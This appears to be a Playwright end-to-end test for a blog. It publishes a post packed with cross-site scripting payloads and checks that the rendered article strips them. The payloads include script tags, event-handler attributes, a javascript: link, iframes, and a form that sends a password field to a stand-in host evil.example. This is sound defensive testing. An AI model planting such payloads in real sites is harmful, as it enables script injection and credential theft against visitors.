import { randomUUID } from 'node:crypto';
import { deletePost, storePost } from '../../functions/stored.ts';
import { expect, test } from '../journey.ts';

// Staff do nothing here, but a post is published, and the visitors' journeys count those of the seed.
test('POST-03 nothing in the content of a post runs, makes a request or remains as a form', async ({
  page,
}) => {
  const slug = `attack-${randomUUID()}`;
  const attack = [
    '<script>window.attacked = 1</script>',
    '<img src="/images/nothing.png" onerror="window.attacked = 2">',
    '<a href="javascript:window.attacked = 3">press</a>',
    '<svg onload="window.attacked = 4"></svg>',
    '<form action="https://evil.example"><input name="password"><button>Send</button></form>',
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>parent.attacked = 5</script>"></iframe>',
    '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="position: fixed" onclick="window.attacked = 6">Harmless words</p>',
  ].join('');
  await page.route('**/images/nothing.png', (route) => route.fulfill({ status: 200, body: '' }));
  await storePost(slug, { title: 'Attack', content: attack, date: new Date('2020-01-01T08:00:00Z') });
  const status = async () => (await page.request.get(`/blog/${slug}`)).status();
  await expect.poll(status, { timeout: 30_000 }).toBe(200);
  await page.goto(`/blog/${slug}`);
  const article = page.locator('article > div').first();
  await article.getByText('Harmless words').click();
  await expect(article.locator('script, form, input, button, iframe, style, link, svg')).toHaveCount(0);
  await expect(article.locator('[onclick], [onerror], [style], [href^="javascript:"]')).toHaveCount(0);
  expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
  await deletePost(slug);
});
